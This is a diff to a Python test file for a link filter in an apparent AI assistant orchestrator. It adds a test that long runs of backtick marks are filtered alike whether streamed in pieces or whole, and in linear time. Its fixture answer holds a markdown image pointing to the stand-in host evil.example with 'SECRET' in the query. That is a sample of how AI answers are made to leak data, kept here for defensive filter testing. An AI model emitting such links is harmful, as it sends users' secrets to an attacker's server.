@@ -1,11 +1,14 @@
 """Links and images to foreign hosts in answers, streamed and whole."""
 
+import time
 from collections.abc import Sequence
 
 import pytest
 from heddle.assistant.v1 import assistant_pb2
 from heddle.connector.v1 import connector_pb2
 from heddle.orchestrator.v1 import orchestrator_pb2 as pb
+from heddle_orchestrator.output.events import output_filter
+from heddle_orchestrator.output.link_filter import LinkFilter
 from orchestrator.harness import Harness, ask, assistant, done, function, kinds, text, tool
 
 ANSWER = "See ![chart](https://evil.example/?q=SECRET) and [x](https://good.example/x)."
@@ -81,3 +84,16 @@ async def test_the_list_of_the_organisation_applies_to_its_assistants(harness: H
     harness.connector.batches = pieces(ANSWER)
     harness.assistants.output_hosts = "good.example"
     assert answer_of(await harness.events(ask("1"))) == FILTERED
+
+
+@pytest.mark.parametrize("before", ["`", "```a", "```\n", "```a\n~"])
+def test_a_long_run_of_marks_is_filtered_alike_in_pieces_and_in_linear_time(before: str) -> None:
+    output = output_filter("good.example")
+    assert output is not None
+    words = f"{before}{'`' * 20_000}\n{ANSWER}"
+    whole, piecewise = LinkFilter(output._policy), LinkFilter(output._policy)  # noqa: SLF001 - the filter of one text
+    begun = time.thread_time()
+    parts = [piecewise.feed(words[start : start + 7]) for start in range(0, len(words), 7)]
+    seconds = time.thread_time() - begun
+    assert "".join(parts) + piecewise.finish() == whole.feed(words) + whole.finish()
+    assert seconds < 0.5
